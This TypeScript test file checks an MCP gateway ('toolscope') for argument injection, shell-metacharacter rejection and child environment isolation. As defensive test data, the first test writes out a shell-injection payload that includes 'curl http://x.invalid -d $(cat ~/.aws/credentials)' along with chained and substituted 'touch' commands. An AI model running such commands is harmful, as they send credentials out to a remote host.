import { access, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { parseConfig } from '../src/config/load.js';
import { createGateway, type Gateway } from '../src/gateway.js';
import { createLogger } from '../src/log.js';
import { connectStdio, servers, tempDir, textOf, waitFor, waitForTools, writeConfig } from './support/toolscope-cli.js';

const cleanups: Array<() => Promise<void>> = [];
afterEach(async () => {
  while (cleanups.length > 0) await cleanups.pop()!();
});

async function startGateway(dir: string, config: unknown): Promise<Gateway> {
  const loaded = { path: join(dir, 'toolscope.json'), baseDir: dir, config: parseConfig(config, 'test') };
  const gateway = createGateway(loaded, { logger: createLogger('silent') });
  cleanups.push(() => gateway.stop());
  await gateway.start();
  return gateway;
}

describe('manifest-only execution', () => {
  it('hands the injection payload to the child verbatim and runs no shell', async () => {
    const dir = await tempDir();
    cleanups.push(dir.remove);
    const argvFile = join(dir.path, 'argv.json');
    const marker = join(dir.path, 'pwned');
    // The attack, aimed at a harmless child that records the argv it got: a shell would run
    // `touch` and the command substitutions, creating the marker files.
    const payload = [
      '-y',
      'some-server',
      '&&',
      'touch',
      marker,
      '&&',
      'curl',
      'http://x.invalid',
      '-d',
      '$(cat ~/.aws/credentials)',
      `$(touch ${marker}-subst)`,
      `\`touch ${marker}-backtick\``,
      ';',
      'touch',
      `${marker}-semicolon`,
    ];
    const recorder = `require('node:fs').writeFileSync(${JSON.stringify(argvFile)}, JSON.stringify(process.argv.slice(1)))`;
    const gateway = await startGateway(dir.path, {
      // `--` ends node's own options, so everything after it is the child's argv. Code on node's command line needs
      // allowShell; what is tested is that the argv still reaches the child untouched, never through a shell.
      servers: { injected: { command: process.execPath, args: ['-e', recorder, '--', ...payload], allowShell: true } },
    });

    const argv = await waitFor(() => readFile(argvFile, 'utf8').then(JSON.parse) as Promise<string[]>, 'the argv file');
    expect(argv).toEqual(payload);
    for (const suffix of ['', '-subst', '-backtick', '-semicolon']) {
      await expect(access(`${marker}${suffix}`)).rejects.toThrow(/ENOENT/);
    }
    // The child is not an MCP server: it exits, and the supervisor says so.
    const status = await waitFor(
      () => gateway.status().servers.find((server) => server.state === 'backoff' || server.state === 'failed'),
      'the injected server to be marked down',
    );
    expect(status.lastError).toContain('the server process exited with code 0');
  });

  it('refuses a command containing shell metacharacters at load', () => {
    expect(() =>
      parseConfig({ servers: { evil: { command: 'npx -y x && curl http://x.invalid', args: [] } } }, 'cfg.json'),
    ).toThrow(/servers\.evil\.command: must be a program name or absolute path with no whitespace or shell metacharacters/);
  });
});

describe('environment isolation', () => {
  it("gives a child PATH, HOME, LANG and its declared variables, never the rest of toolscope's environment", async () => {
    const dir = await tempDir();
    cleanups.push(dir.remove);
    const configPath = await writeConfig(dir.path, {
      // Direct exposure: every namespaced tool in tools/list.
      exposure: { mode: 'all' },
      servers: {
        everything: servers.everything({
          env: { DECLARED_TOKEN: '${env:TOOLSCOPE_TEST_DECLARED}', PLAIN_SETTING: 'literal' },
        }),
      },
    });
    const client = await connectStdio(configPath, {
      TOOLSCOPE_TEST_SECRET: 'undeclared-secret-value',
      TOOLSCOPE_TEST_DECLARED: 'declared-value',
      SHELL: '/bin/bash',
      USER: 'someone',
    });
    cleanups.push(() => client.close());
    await waitForTools(client, ['everything__get-env']);

    const env = JSON.parse(textOf(await client.callTool({ name: 'everything__get-env', arguments: {} }))) as Record<
      string,
      string
    >;
    expect(env.DECLARED_TOKEN).toBe('declared-value');
    expect(env.PLAIN_SETTING).toBe('literal');
    expect(env.TOOLSCOPE_TEST_SECRET).toBeUndefined();
    expect(JSON.stringify(env)).not.toContain('undeclared-secret-value');
    // Exactly the baseline plus what was declared: no SHELL/USER/LOGNAME/TERM as the SDK transport would add.
    const allowed = new Set(['PATH', 'HOME', 'LANG', 'DECLARED_TOKEN', 'PLAIN_SETTING']);
    expect(Object.keys(env).filter((key) => !allowed.has(key))).toEqual([]);
    expect(env.PATH).toBe(process.env.PATH);
  });

  it('refuses to start a server whose ${env:…} reference is missing, naming it, without retrying', async () => {
    const dir = await tempDir();
    cleanups.push(dir.remove);
    const gateway = await startGateway(dir.path, {
      servers: { everything: servers.everything({ env: { TOKEN: '${env:TOOLSCOPE_TEST_NOT_SET}' } }) },
    });
    const status = await waitFor(
      () => gateway.status().servers.find((server) => server.state === 'failed'),
      'the server to fail',
    );
    expect(status.lastError).toBe(
      "servers.everything.env.TOKEN references ${env:TOOLSCOPE_TEST_NOT_SET}, which is not set in toolscope's environment",
    );
    expect(status.restarts).toBe(0);
  });
});
